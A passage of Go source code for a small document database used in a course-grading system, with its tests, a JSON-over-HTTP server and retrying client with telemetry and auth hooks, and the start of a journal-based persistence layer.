	docs, _ = db.Find("submissions", M{}, FindOpts{Sort: []string{"runtime"}, Skip: 4})
	if len(docs) != 1 || docs[0]["runtime"] != 120.0 {
		t.Fatalf("skip = %v", docs)
	}
	docs, _ = db.Find("submissions", M{}, FindOpts{Skip: 99})
	if len(docs) != 0 {
		t.Fatalf("skip past end = %v", docs)
	}
}

func TestMultiKeySort(t *testing.T) {
	db := New()
	seedSubmissions(t, db)
	docs, err := db.Find("submissions", M{}, FindOpts{Sort: []string{"team", "-attempt"}})
	if err != nil {
		t.Fatal(err)
	}
	if docs[0]["team"] != "alpha" || docs[0]["attempt"] != 3.0 {
		t.Fatalf("head = %v", docs[0])
	}
	if docs[1]["team"] != "alpha" || docs[1]["attempt"] != 2.0 {
		t.Fatalf("second = %v", docs[1])
	}
}

func TestUpdateSetIncPush(t *testing.T) {
	db := New()
	seedSubmissions(t, db)
	n, err := db.Update("submissions", M{"team": "alpha"}, M{
		"$set":  M{"graded": true, "meta.grader": "staff1"},
		"$inc":  M{"attempt": 1},
		"$push": M{"history": "regraded"},
	})
	if err != nil || n != 2 {
		t.Fatalf("update n=%d err=%v", n, err)
	}
	doc, _ := db.FindOne("submissions", M{"team": "alpha", "kind": "final"})
	if doc["graded"] != true || doc["attempt"] != 4.0 {
		t.Fatalf("doc = %v", doc)
	}
	if meta, ok := doc["meta"].(map[string]any); !ok || meta["grader"] != "staff1" {
		t.Fatalf("nested set = %v", doc["meta"])
	}
	if hist, ok := doc["history"].([]any); !ok || len(hist) != 1 || hist[0] != "regraded" {
		t.Fatalf("push = %v", doc["history"])
	}
	// Second push appends.
	db.Update("submissions", M{"team": "alpha", "kind": "final"}, M{"$push": M{"history": "again"}})
	doc, _ = db.FindOne("submissions", M{"team": "alpha", "kind": "final"})
	if hist := doc["history"].([]any); len(hist) != 2 {
		t.Fatalf("second push = %v", hist)
	}
}

func TestBadUpdate(t *testing.T) {
	db := New()
	seedSubmissions(t, db)
	for _, u := range []M{
		{"$bogus": M{"a": 1}},
		{"$inc": M{"team": 1}},
		{"$push": M{"team": "x"}},
		{"$set": "notobject"},
	} {
		if _, err := db.Update("submissions", M{"team": "alpha"}, u); !errors.Is(err, ErrBadUpdate) {
			t.Errorf("update %v: err = %v", u, err)
		}
	}
}

func TestUpsert(t *testing.T) {
	db := New()
	// Insert path: the ranking record does not exist yet.
	id, err := db.Upsert("rankings", M{"team": "alpha"}, M{"$set": M{"runtime": 0.5}})
	if err != nil || id == "" {
		t.Fatalf("upsert insert: %q, %v", id, err)
	}
	doc, _ := db.FindOne("rankings", M{"team": "alpha"})
	if doc["runtime"] != 0.5 {
		t.Fatalf("doc = %v", doc)
	}
	// Update path: overwrite the timing record (paper §V).
	id2, err := db.Upsert("rankings", M{"team": "alpha"}, M{"$set": M{"runtime": 0.43}})
	if err != nil || id2 != id {
		t.Fatalf("upsert update: %q vs %q, %v", id2, id, err)
	}
	if n, _ := db.Count("rankings", M{}); n != 1 {
		t.Fatalf("count = %d, want 1 (no duplicate rows)", n)
	}
	doc, _ = db.FindOne("rankings", M{"team": "alpha"})
	if doc["runtime"] != 0.43 {
		t.Fatalf("overwritten doc = %v", doc)
	}
}

func TestDelete(t *testing.T) {
	db := New()
	seedSubmissions(t, db)
	n, err := db.Delete("submissions", M{"kind": "dev"})
	if err != nil || n != 2 {
		t.Fatalf("delete n=%d err=%v", n, err)
	}
	if n, _ := db.Count("submissions", M{}); n != 3 {
		t.Fatalf("remaining = %d", n)
	}
	// Deterministic scan order survives deletion.
	docs, _ := db.Find("submissions", M{}, FindOpts{})
	if docs[0]["team"] != "alpha" || docs[2]["team"] != "delta" {
		t.Fatalf("order after delete = %v", docs)
	}
}

func TestFindReturnsCopies(t *testing.T) {
	db := New()
	db.Insert("c", M{"_id": "x", "nested": M{"v": 1}})
	doc, _ := db.FindOne("c", M{"_id": "x"})
	doc["nested"].(map[string]any)["v"] = 999.0
	again, _ := db.FindOne("c", M{"_id": "x"})
	if again["nested"].(map[string]any)["v"] != 1.0 {
		t.Error("Find returned aliased document")
	}
}

func TestCollectionsAndDrop(t *testing.T) {
	db := New()
	db.Insert("b", M{})
	db.Insert("a", M{})
	if got := db.Collections(); len(got) != 2 || got[0] != "a" {
		t.Fatalf("Collections = %v", got)
	}
	db.Drop("a")
	if got := db.Collections(); len(got) != 1 || got[0] != "b" {
		t.Fatalf("after drop = %v", got)
	}
}

func TestBadCollectionNames(t *testing.T) {
	db := New()
	for _, name := range []string{"", "$sys", "has space", "semi;"} {
		if _, err := db.Insert(name, M{}); !errors.Is(err, ErrBadName) {
			t.Errorf("Insert(%q) = %v", name, err)
		}
	}
}

func TestBadDocument(t *testing.T) {
	db := New()
	if _, err := db.Insert("c", []int{1, 2}); !errors.Is(err, ErrBadDocument) {
		t.Errorf("array document: %v", err)
	}
	if _, err := db.Insert("c", make(chan int)); !errors.Is(err, ErrBadDocument) {
		t.Errorf("unmarshalable: %v", err)
	}
}

func TestDecode(t *testing.T) {
	db := New()
	db.Insert("c", M{"team": "x", "runtime": 1.5})
	doc, _ := db.FindOne("c", M{"team": "x"})
	var rec struct {
		Team    string  `json:"team"`
		Runtime float64 `json:"runtime"`
	}
	if err := Decode(doc, &rec); err != nil || rec.Team != "x" || rec.Runtime != 1.5 {
		t.Fatalf("Decode = %+v, %v", rec, err)
	}
}

// Property: for a set of docs with random runtimes, Find with a $lt
// filter returns exactly those below the bound.
func TestQuickRangeFilter(t *testing.T) {
	f := func(runtimes []float64, boundRaw float64) bool {
		db := New()
		for _, r := range runtimes {
			if r != r { // skip NaN: JSON cannot carry it
				continue
			}
			if _, err := db.Insert("c", M{"v": r}); err != nil {
				return false
			}
		}
		bound := boundRaw
		if bound != bound {
			bound = 0
		}
		docs, err := db.Find("c", M{"v": M{"$lt": bound}}, FindOpts{})
		if err != nil {
			return false
		}
		want := 0
		for _, r := range runtimes {
			if r == r && r < bound {
				want++
			}
		}
		return len(docs) == want
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Fatal(err)
	}
}

func TestHTTPClientMirrorsDB(t *testing.T) {
	db := New()
	srv := httptest.NewServer(Handler(db, nil))
	defer srv.Close()
	c := NewClient(srv.URL)
	seedSubmissions(t, c)

	n, err := c.Count("submissions", M{"kind": "final"})
	if err != nil || n != 3 {
		t.Fatalf("count = %d, %v", n, err)
	}
	docs, err := c.Find("submissions", M{"runtime": M{"$lt": 1.0}}, FindOpts{Sort: []string{"runtime"}})
	if err != nil || len(docs) != 3 {
		t.Fatalf("find = %v, %v", docs, err)
	}
	if docs[0]["team"] != "alpha" {
		t.Fatalf("sorted head = %v", docs[0])
	}
	if _, err := c.Update("submissions", M{"team": "beta"}, M{"$set": M{"graded": true}}); err != nil {
		t.Fatal(err)
	}
	doc, err := c.FindOne("submissions", M{"team": "beta"})
	if err != nil || doc["graded"] != true {
		t.Fatalf("after update: %v, %v", doc, err)
	}
	id, err := c.Upsert("rankings", M{"team": "beta"}, M{"$set": M{"runtime": 0.62}})
	if err != nil || id == "" {
		t.Fatalf("upsert: %q, %v", id, err)
	}
	if _, err := c.Delete("submissions", M{"team": "gamma"}); err != nil {
		t.Fatal(err)
	}
	if _, err := c.FindOne("submissions", M{"team": "gamma"}); !errors.Is(err, ErrNotFound) {
		t.Fatalf("deleted doc: %v", err)
	}
}

func TestHTTPAuth(t *testing.T) {
	db := New()
	auth := func(ak, sig string, r *http.Request) bool { return ak == "staff" }
	srv := httptest.NewServer(Handler(db, auth))
	defer srv.Close()
	c := NewClient(srv.URL)
	if _, err := c.Insert("c", M{"v": 1}); err == nil {
		t.Fatal("unauthenticated insert succeeded")
	}
	c.Sign = func(r *http.Request) { r.Header.Set(HeaderAccessKey, "staff") }
	if _, err := c.Insert("c", M{"v": 1}); err != nil {
		t.Fatalf("authenticated insert: %v", err)
	}
}
