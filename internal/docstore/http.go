package docstore

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"

	"rai/internal/clock"
	"rai/internal/netx"
	"rai/internal/telemetry"
)

// The HTTP service exposes the database as a small JSON-RPC-ish API so a
// standalone raidb daemon can serve workers and instructor tools:
//
//	POST /c/{coll}/insert  {"doc": {...}}                  -> {"id": "..."}
//	POST /c/{coll}/find    {"filter": {...}, "opts": {..}} -> {"docs": [...]}
//	POST /c/{coll}/count   {"filter": {...}}               -> {"n": 3}
//	POST /c/{coll}/update  {"filter": {...}, "update":{}}  -> {"n": 2}
//	POST /c/{coll}/upsert  {"filter": {...}, "update":{}}  -> {"id": "..."}
//	POST /c/{coll}/delete  {"filter": {...}}               -> {"n": 1}
//	GET  /caps                                             -> {"watch": true}
//	GET  /w/{coll}         ndjson stream of WatchEvent ({coll} empty = all)
//	GET  /healthz

// AuthFunc validates credentials attached to a request; nil admits all.
type AuthFunc func(accessKey, signature string, r *http.Request) bool

// Auth header names shared with internal/auth.
const (
	HeaderAccessKey = "X-RAI-Access-Key"
	HeaderSignature = "X-RAI-Signature"
)

type rpcRequest struct {
	Doc    M        `json:"doc,omitempty"`
	Filter M        `json:"filter,omitempty"`
	Update M        `json:"update,omitempty"`
	Opts   FindOpts `json:"opts,omitempty"`
}

type rpcResponse struct {
	ID    string `json:"id,omitempty"`
	N     int    `json:"n,omitempty"`
	Docs  []M    `json:"docs,omitempty"`
	Error string `json:"error,omitempty"`
}

// Caps is the capability document served at GET /caps, so clients can
// negotiate optional features (watch streams) and degrade to polling
// against servers that lack them.
type Caps struct {
	Watch bool `json:"watch"`
}

// HandlerOption configures the HTTP layer.
type HandlerOption func(*handlerState)

// WithTelemetry instruments the handler on reg — request counters and
// latency histograms labeled by verb plus an in-flight gauge — and
// mounts GET /metrics.
func WithTelemetry(reg *telemetry.Registry) HandlerOption {
	return func(h *handlerState) {
		h.reg = reg
		h.requests = map[string]*telemetry.Counter{}
		h.latency = map[string]*telemetry.Histogram{}
		for _, verb := range []string{"insert", "find", "count", "update", "upsert", "delete", "other"} {
			h.requests[verb] = reg.Counter("rai_docstore_requests_total", "requests served", telemetry.L("verb", verb))
			h.latency[verb] = reg.Histogram("rai_docstore_request_seconds", "request latency", telemetry.DefBuckets, telemetry.L("verb", verb))
		}
		h.inFlight = reg.Gauge("rai_docstore_requests_in_flight", "requests currently being served")
	}
}

// WithHandlerClock substitutes the latency time source (virtual in tests).
func WithHandlerClock(c clock.Clock) HandlerOption {
	return func(h *handlerState) { h.clk = c }
}

// WithHandlerTracer opens a child span ("docstore upsert", "docstore
// find", ...) for every request arriving with X-RAI-Trace-ID
// propagation headers, so a job's metadata writes appear inside its
// span tree.
func WithHandlerTracer(t *telemetry.Tracer) HandlerOption {
	return func(h *handlerState) { h.tracer = t }
}

// WithHandlerSampler notes the head-sampling verdict arriving on the
// X-RAI-Sampled header, so the server's child spans follow the
// client's decision. Wrap the tracer's span sink with the same
// sampler's SpanSink for the filter to take effect.
func WithHandlerSampler(s *telemetry.Sampler) HandlerOption {
	return func(h *handlerState) { h.sampler = s }
}

type handlerState struct {
	reg      *telemetry.Registry
	clk      clock.Clock
	tracer   *telemetry.Tracer
	sampler  *telemetry.Sampler
	requests map[string]*telemetry.Counter
	latency  map[string]*telemetry.Histogram
	inFlight *telemetry.Gauge
}

// observe records one request; no-op when telemetry is off.
func (h *handlerState) observe(verb string, start time.Time) {
	if h.reg == nil {
		return
	}
	if h.requests[verb] == nil {
		verb = "other"
	}
	h.requests[verb].Inc()
	h.latency[verb].Observe(h.clk.Now().Sub(start).Seconds())
}

// Handler serves an in-memory DB over HTTP.
func Handler(db *DB, auth AuthFunc, opts ...HandlerOption) http.Handler {
	return HandlerStore(db, auth, opts...)
}

// HandlerStore serves any Store implementation (in-memory or
// journal-backed) over HTTP.
func HandlerStore(db Store, auth AuthFunc, opts ...HandlerOption) http.Handler {
	h := &handlerState{clk: clock.Real{}}
	for _, o := range opts {
		o(h)
	}
	mux := http.NewServeMux()
	mux.HandleFunc("/healthz", func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintln(w, "ok")
	})
	if h.reg != nil {
		mux.Handle("/metrics", h.reg.Handler())
	}
	// Capability negotiation: a follower probes /caps before choosing
	// between a watch stream and polling. Unauthenticated, like /healthz
	// — it reveals feature flags, not data.
	watcher, canWatch := db.(Watcher)
	mux.HandleFunc("/caps", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, Caps{Watch: canWatch})
	})
	mux.HandleFunc("/w/", func(w http.ResponseWriter, r *http.Request) {
		if auth != nil && !auth(r.Header.Get(HeaderAccessKey), r.Header.Get(HeaderSignature), r) {
			writeJSON(w, http.StatusForbidden, rpcResponse{Error: "forbidden"})
			return
		}
		if !canWatch {
			writeJSON(w, http.StatusNotImplemented, rpcResponse{Error: "watch unsupported"})
			return
		}
		fl, ok := w.(http.Flusher)
		if !ok {
			writeJSON(w, http.StatusInternalServerError, rpcResponse{Error: "streaming unsupported"})
			return
		}
		coll := strings.TrimPrefix(r.URL.Path, "/w/")
		sub := watcher.Watch(r.Context(), coll)
		defer sub.Close()
		w.Header().Set("Content-Type", "application/x-ndjson")
		w.WriteHeader(http.StatusOK)
		fl.Flush()
		enc := json.NewEncoder(w)
		for ev := range sub.Events() {
			if err := enc.Encode(ev); err != nil {
				return
			}
			fl.Flush()
		}
	})
	mux.HandleFunc("/c/", func(w http.ResponseWriter, r *http.Request) {
		start := h.clk.Now()
		h.inFlight.Add(1)
		defer h.inFlight.Add(-1)
		verb := "other"
		defer func() { h.observe(verb, start) }()
		if sc, jobID := telemetry.ExtractHTTP(r.Header); sc.Valid() && h.tracer != nil {
			h.sampler.Note(sc.TraceID, sc.Sampled)
			span := h.tracer.StartSpan(sc.TraceID, sc.SpanID, "docstore")
			span.SetAttr("path", r.URL.Path)
			if jobID != "" {
				span.SetAttr("job_id", jobID)
			}
			// Name resolves to the verb once parsed below.
			defer func() { span.SetName("docstore " + verb); span.End() }()
		}
		if auth != nil && !auth(r.Header.Get(HeaderAccessKey), r.Header.Get(HeaderSignature), r) {
			writeJSON(w, http.StatusForbidden, rpcResponse{Error: "forbidden"})
			return
		}
		if r.Method != http.MethodPost {
			writeJSON(w, http.StatusMethodNotAllowed, rpcResponse{Error: "POST only"})
			return
		}
		rest := strings.TrimPrefix(r.URL.Path, "/c/")
		coll, v, ok := strings.Cut(rest, "/")
		verb = v
		if !ok || coll == "" {
			writeJSON(w, http.StatusBadRequest, rpcResponse{Error: "want /c/{collection}/{verb}"})
			return
		}
		// Decode straight off the wire (bounded) instead of buffering the
		// whole body first; an empty body is a valid empty request.
		var req rpcRequest
		dec := json.NewDecoder(io.LimitReader(r.Body, 64<<20))
		if err := dec.Decode(&req); err != nil && !errors.Is(err, io.EOF) {
			writeJSON(w, http.StatusBadRequest, rpcResponse{Error: "bad JSON: " + err.Error()})
			return
		}
		if req.Filter == nil {
			req.Filter = M{}
		}
		switch verb {
		case "insert":
			id, err := db.Insert(coll, req.Doc)
			respond(w, rpcResponse{ID: id}, err)
		case "find":
			docs, err := db.Find(coll, req.Filter, req.Opts)
			respond(w, rpcResponse{Docs: docs}, err)
		case "count":
			n, err := db.Count(coll, req.Filter)
			respond(w, rpcResponse{N: n}, err)
		case "update":
			n, err := db.Update(coll, req.Filter, req.Update)
			respond(w, rpcResponse{N: n}, err)
		case "upsert":
			id, err := db.Upsert(coll, req.Filter, req.Update)
			respond(w, rpcResponse{ID: id}, err)
		case "delete":
			n, err := db.Delete(coll, req.Filter)
			respond(w, rpcResponse{N: n}, err)
		default:
			writeJSON(w, http.StatusNotFound, rpcResponse{Error: "unknown verb " + verb})
		}
	})
	return mux
}

func respond(w http.ResponseWriter, resp rpcResponse, err error) {
	if err == nil {
		writeJSON(w, http.StatusOK, resp)
		return
	}
	status := http.StatusInternalServerError
	switch {
	case errors.Is(err, ErrNotFound):
		status = http.StatusNotFound
	case errors.Is(err, ErrBadFilter), errors.Is(err, ErrBadUpdate),
		errors.Is(err, ErrBadName), errors.Is(err, ErrBadDocument):
		status = http.StatusBadRequest
	case errors.Is(err, ErrDuplicateID):
		status = http.StatusConflict
	}
	writeJSON(w, status, rpcResponse{Error: err.Error()})
}

func writeJSON(w http.ResponseWriter, status int, v any) {
	w.Header().Set("Content-Type", "application/json")
	w.WriteHeader(status)
	_ = json.NewEncoder(w).Encode(v)
}

// DefaultRequestTimeout bounds each attempt when the policy does not
// set a per-attempt deadline. It replaces the old fixed 30s
// http.Client.Timeout; the caller's ctx can always cut it shorter.
const DefaultRequestTimeout = 30 * time.Second

// Client is an HTTP client for a docstore service, mirroring the DB
// API. Calls run under Policy: transient failures retry with jittered
// backoff — except Insert, which is not idempotent and gets a single
// attempt (a retried insert whose first try actually landed would
// duplicate the document). Update/Upsert/Delete are filter-addressed
// and safe to repeat.
type Client struct {
	BaseURL string
	HTTP    *http.Client
	Sign    func(r *http.Request)
	// Policy governs retries and deadlines; NewClient seeds PerAttempt
	// with DefaultRequestTimeout when unset.
	Policy netx.Policy
}

// ClientOption configures NewClient.
type ClientOption func(*Client)

// WithClientPolicy replaces the retry policy.
func WithClientPolicy(p netx.Policy) ClientOption {
	return func(c *Client) { c.Policy = p }
}

// WithClientTransport substitutes the HTTP transport.
func WithClientTransport(rt http.RoundTripper) ClientOption {
	return func(c *Client) { c.HTTP.Transport = rt }
}

// NewClient returns a client for the service at baseURL.
func NewClient(baseURL string, opts ...ClientOption) *Client {
	c := &Client{BaseURL: strings.TrimSuffix(baseURL, "/"), HTTP: &http.Client{}}
	for _, o := range opts {
		o(c)
	}
	if c.Policy.PerAttempt <= 0 {
		c.Policy.PerAttempt = DefaultRequestTimeout
	}
	return c
}

// call runs one RPC under the retry policy (single attempt when retry
// is false). Each attempt rebuilds the request from the marshaled
// payload; error-response bodies are fully drained so the pooled
// connection is reused.
func (c *Client) call(ctx context.Context, coll, verb string, req rpcRequest, retry bool) (rpcResponse, error) {
	payload, err := json.Marshal(req)
	if err != nil {
		return rpcResponse{}, err
	}
	p := c.Policy
	if !retry {
		p.MaxAttempts = 1
	}
	return netx.DoVal(ctx, p, func(ctx context.Context) (rpcResponse, error) {
		hreq, err := http.NewRequestWithContext(ctx, http.MethodPost, c.BaseURL+"/c/"+coll+"/"+verb, bytes.NewReader(payload))
		if err != nil {
			return rpcResponse{}, netx.Permanent(err)
		}
		hreq.Header.Set("Content-Type", "application/json")
		if c.Sign != nil {
			c.Sign(hreq)
		}
		// Propagate the caller's trace so the server's child span joins
		// the same tree.
		telemetry.InjectHTTP(ctx, hreq.Header)
		hresp, err := c.HTTP.Do(hreq)
		if err != nil {
			return rpcResponse{}, err
		}
		defer func() {
			_, _ = io.Copy(io.Discard, io.LimitReader(hresp.Body, 64<<10))
			hresp.Body.Close()
		}()
		var resp rpcResponse
		if err := json.NewDecoder(hresp.Body).Decode(&resp); err != nil {
			return rpcResponse{}, fmt.Errorf("docstore client: bad response: %w", err)
		}
		if resp.Error != "" {
			se := &netx.StatusError{Op: "docstore " + verb, Code: hresp.StatusCode, Msg: resp.Error}
			if hresp.StatusCode == http.StatusNotFound {
				return resp, fmt.Errorf("%w: %w", ErrNotFound, se)
			}
			return resp, se
		}
		return resp, nil
	})
}

// InsertContext stores a document and returns its id. Inserts are not
// retried (see Client).
func (c *Client) InsertContext(ctx context.Context, coll string, doc any) (string, error) {
	d, err := normalize(doc)
	if err != nil {
		return "", err
	}
	resp, err := c.call(ctx, coll, "insert", rpcRequest{Doc: d}, false)
	return resp.ID, err
}

// FindContext runs a filtered query.
func (c *Client) FindContext(ctx context.Context, coll string, filter M, opts FindOpts) ([]M, error) {
	resp, err := c.call(ctx, coll, "find", rpcRequest{Filter: filter, Opts: opts}, true)
	return resp.Docs, err
}

// FindOneContext returns the first match or ErrNotFound.
func (c *Client) FindOneContext(ctx context.Context, coll string, filter M) (M, error) {
	docs, err := c.FindContext(ctx, coll, filter, FindOpts{Limit: 1})
	if err != nil {
		return nil, err
	}
	if len(docs) == 0 {
		return nil, ErrNotFound
	}
	return docs[0], nil
}

// CountContext counts matches.
func (c *Client) CountContext(ctx context.Context, coll string, filter M) (int, error) {
	resp, err := c.call(ctx, coll, "count", rpcRequest{Filter: filter}, true)
	return resp.N, err
}

// UpdateContext applies an update to all matches.
func (c *Client) UpdateContext(ctx context.Context, coll string, filter, update M) (int, error) {
	resp, err := c.call(ctx, coll, "update", rpcRequest{Filter: filter, Update: update}, true)
	return resp.N, err
}

// UpsertContext updates or inserts and returns the document id.
func (c *Client) UpsertContext(ctx context.Context, coll string, filter, update M) (string, error) {
	resp, err := c.call(ctx, coll, "upsert", rpcRequest{Filter: filter, Update: update}, true)
	return resp.ID, err
}

// DeleteContext removes matches.
func (c *Client) DeleteContext(ctx context.Context, coll string, filter M) (int, error) {
	resp, err := c.call(ctx, coll, "delete", rpcRequest{Filter: filter}, true)
	return resp.N, err
}

// CapsContext fetches the server's capability document. A
// pre-capability server (404 on /caps) reports no capabilities and no
// error, so callers can fall back without special-casing old daemons.
func (c *Client) CapsContext(ctx context.Context) (Caps, error) {
	caps, err := netx.DoVal(ctx, c.Policy, func(ctx context.Context) (Caps, error) {
		hreq, err := http.NewRequestWithContext(ctx, http.MethodGet, c.BaseURL+"/caps", nil)
		if err != nil {
			return Caps{}, netx.Permanent(err)
		}
		if c.Sign != nil {
			c.Sign(hreq)
		}
		hresp, err := c.HTTP.Do(hreq)
		if err != nil {
			return Caps{}, err
		}
		defer func() {
			_, _ = io.Copy(io.Discard, io.LimitReader(hresp.Body, 64<<10))
			hresp.Body.Close()
		}()
		if hresp.StatusCode != http.StatusOK {
			return Caps{}, &netx.StatusError{Op: "docstore caps", Code: hresp.StatusCode, Msg: hresp.Status}
		}
		var caps Caps
		if err := json.NewDecoder(hresp.Body).Decode(&caps); err != nil {
			return Caps{}, fmt.Errorf("docstore client: bad caps: %w", err)
		}
		return caps, nil
	})
	var se *netx.StatusError
	if errors.As(err, &se) && se.Code == http.StatusNotFound {
		return Caps{}, nil
	}
	return caps, err
}

// WatchContext subscribes to the server's mutation stream for coll
// ("" = all collections). The returned channel closes when ctx ends or
// the stream breaks; callers wanting resilience probe CapsContext and
// fall back to polling. The stream is long-lived, so it runs outside
// the retry policy on the caller's context alone.
func (c *Client) WatchContext(ctx context.Context, coll string) (<-chan WatchEvent, error) {
	hreq, err := http.NewRequestWithContext(ctx, http.MethodGet, c.BaseURL+"/w/"+coll, nil)
	if err != nil {
		return nil, err
	}
	if c.Sign != nil {
		c.Sign(hreq)
	}
	hresp, err := c.HTTP.Do(hreq)
	if err != nil {
		return nil, err
	}
	if hresp.StatusCode != http.StatusOK {
		var resp rpcResponse
		_ = json.NewDecoder(io.LimitReader(hresp.Body, 64<<10)).Decode(&resp)
		hresp.Body.Close()
		msg := resp.Error
		if msg == "" {
			msg = hresp.Status
		}
		return nil, &netx.StatusError{Op: "docstore watch", Code: hresp.StatusCode, Msg: msg}
	}
	ch := make(chan WatchEvent, 16)
	go func() {
		defer hresp.Body.Close()
		defer close(ch)
		dec := json.NewDecoder(hresp.Body)
		for {
			var ev WatchEvent
			if err := dec.Decode(&ev); err != nil {
				return
			}
			select {
			case ch <- ev:
			case <-ctx.Done():
				return
			}
		}
	}()
	return ch, nil
}

// storeCtx parents the context-free Store adapters below. The Store
// interface is deliberately context-free — it is satisfied by the
// in-memory DB and the journal, and consumed by components that have no
// request context of their own (ranking, grading, admin sweeps). Those
// call paths enter here, the one sanctioned crossing from the
// context-free world into the HTTP client.
//
//lint:ignore ctxbg the context-free Store port needs a root context; every ctx-aware caller uses the *Context methods
var storeCtx = context.Background()

// Insert stores a document and returns its id.
func (c *Client) Insert(coll string, doc any) (string, error) {
	return c.InsertContext(storeCtx, coll, doc)
}

// Find runs a filtered query.
func (c *Client) Find(coll string, filter M, opts FindOpts) ([]M, error) {
	return c.FindContext(storeCtx, coll, filter, opts)
}

// FindOne returns the first match or ErrNotFound.
func (c *Client) FindOne(coll string, filter M) (M, error) {
	return c.FindOneContext(storeCtx, coll, filter)
}

// Count counts matches.
func (c *Client) Count(coll string, filter M) (int, error) {
	return c.CountContext(storeCtx, coll, filter)
}

// Update applies an update to all matches.
func (c *Client) Update(coll string, filter, update M) (int, error) {
	return c.UpdateContext(storeCtx, coll, filter, update)
}

// Upsert updates or inserts and returns the document id.
func (c *Client) Upsert(coll string, filter, update M) (string, error) {
	return c.UpsertContext(storeCtx, coll, filter, update)
}

// Delete removes matches.
func (c *Client) Delete(coll string, filter M) (int, error) {
	return c.DeleteContext(storeCtx, coll, filter)
}

// Store abstracts DB and Client so components can run embedded or remote.
type Store interface {
	Insert(coll string, doc any) (string, error)
	Find(coll string, filter M, opts FindOpts) ([]M, error)
	FindOne(coll string, filter M) (M, error)
	Count(coll string, filter M) (int, error)
	Update(coll string, filter, update M) (int, error)
	Upsert(coll string, filter, update M) (string, error)
	Delete(coll string, filter M) (int, error)
}

var (
	_ Store = (*DB)(nil)
	_ Store = (*Client)(nil)
)
