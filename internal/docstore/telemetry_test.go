package docstore

import (
	"net/http/httptest"
	"testing"

	"rai/internal/telemetry"
)

func TestHandlerMetrics(t *testing.T) {
	reg := telemetry.NewRegistry()
	srv := httptest.NewServer(Handler(New(), nil, WithTelemetry(reg)))
	defer srv.Close()
	c := NewClient(srv.URL)

	if _, err := c.Insert("jobs", M{"_id": "j1", "status": "queued"}); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Update("jobs", M{"_id": "j1"}, M{"$set": M{"status": "succeeded"}}); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Find("jobs", M{}, FindOpts{}); err != nil {
		t.Fatal(err)
	}

	res, err := srv.Client().Get(srv.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	snap, err := telemetry.ParseText(res.Body)
	if err != nil {
		t.Fatal(err)
	}
	for _, verb := range []string{"insert", "update", "find"} {
		if v, ok := snap.Value("rai_docstore_requests_total", telemetry.L("verb", verb)); !ok || v != 1 {
			t.Errorf("requests_total{%s} = %v,%v, want 1", verb, v, ok)
		}
		if v, ok := snap.Value("rai_docstore_request_seconds_count", telemetry.L("verb", verb)); !ok || v != 1 {
			t.Errorf("request_seconds_count{%s} = %v,%v, want 1", verb, v, ok)
		}
	}
	if v, ok := snap.Value("rai_docstore_requests_in_flight"); !ok || v != 0 {
		t.Errorf("in_flight = %v,%v, want 0", v, ok)
	}
}
