package docstore

import (
	"bufio"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"sync"
)

// Durability: a PersistentDB wraps DB with an append-only journal so the
// raidb daemon survives restarts — the role MongoDB's storage engine
// played in the original deployment. Every mutation is recorded as one
// JSON line; opening a journal replays it into a fresh DB.
//
// The journal format is deliberately simple and append-only: grading and
// auditing care about never losing submission records (paper §IV: the
// database holds "execution times, run-times, and logs ... useful for
// grading or any other coursework auditing process"), not about
// random-access update performance.

// journalEntry is one logged mutation.
type journalEntry struct {
	Op     string `json:"op"` // insert | update | upsert | delete | drop
	Coll   string `json:"coll"`
	Doc    M      `json:"doc,omitempty"`
	Filter M      `json:"filter,omitempty"`
	Update M      `json:"update,omitempty"`
	// ID pins the document id chosen at execution time so replay is
	// byte-identical (Insert generates random ids otherwise).
	ID string `json:"id,omitempty"`
}

// PersistentDB is a DB whose mutations are journaled to disk.
type PersistentDB struct {
	*DB
	mu   sync.Mutex
	file *os.File
	w    *bufio.Writer
}

// OpenPersistent opens (or creates) a journal-backed database at path,
// replaying any existing journal.
func OpenPersistent(path string) (*PersistentDB, error) {
	db := New()
	f, err := os.OpenFile(path, os.O_CREATE|os.O_RDWR, 0o600)
	if err != nil {
		return nil, err
	}
	if err := replay(f, db); err != nil {
		f.Close()
		return nil, err
	}
	if _, err := f.Seek(0, io.SeekEnd); err != nil {
		f.Close()
		return nil, err
	}
	return &PersistentDB{DB: db, file: f, w: bufio.NewWriter(f)}, nil
}

// replay applies every journal line to db.
func replay(r io.Reader, db *DB) error {
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 1<<20), 64<<20)
	line := 0
	for sc.Scan() {
		line++
		raw := sc.Bytes()
		if len(raw) == 0 {
			continue
		}
		var e journalEntry
		if err := json.Unmarshal(raw, &e); err != nil {
			return fmt.Errorf("docstore: journal line %d: %w", line, err)
		}
		if err := apply(db, &e); err != nil {
			return fmt.Errorf("docstore: journal line %d (%s %s): %w", line, e.Op, e.Coll, err)
		}
	}
	return sc.Err()
}

func apply(db *DB, e *journalEntry) error {
	switch e.Op {
	case "insert":
		doc := e.Doc
		if e.ID != "" {
			doc["_id"] = e.ID
		}
		_, err := db.Insert(e.Coll, doc)
		return err
	case "update":
		_, err := db.Update(e.Coll, e.Filter, e.Update)
		return err
	case "upsert":
		// Replay exactly: if the id is recorded and absent, pin it.
		if e.ID != "" {
			if _, err := db.FindOne(e.Coll, M{"_id": e.ID}); err != nil {
				// Will insert: reproduce the original id through the
				// normal upsert path, then fix the id if it differs.
				id, err := db.Upsert(e.Coll, e.Filter, e.Update)
				if err != nil {
					return err
				}
				if id != e.ID {
					if _, err := db.Update(e.Coll, M{"_id": id}, M{"$set": M{"_replayed_from": id}}); err != nil {
						return err
					}
					// Rewrite the id by delete+insert.
					docs, err := db.Find(e.Coll, M{"_id": id}, FindOpts{})
					if err != nil || len(docs) != 1 {
						return fmt.Errorf("docstore: replay id fixup failed")
					}
					doc := docs[0]
					doc["_id"] = e.ID
					delete(doc, "_replayed_from")
					if _, err := db.Delete(e.Coll, M{"_id": id}); err != nil {
						return err
					}
					if _, err := db.Insert(e.Coll, doc); err != nil {
						return err
					}
				}
				return nil
			}
		}
		_, err := db.Upsert(e.Coll, e.Filter, e.Update)
		return err
	case "delete":
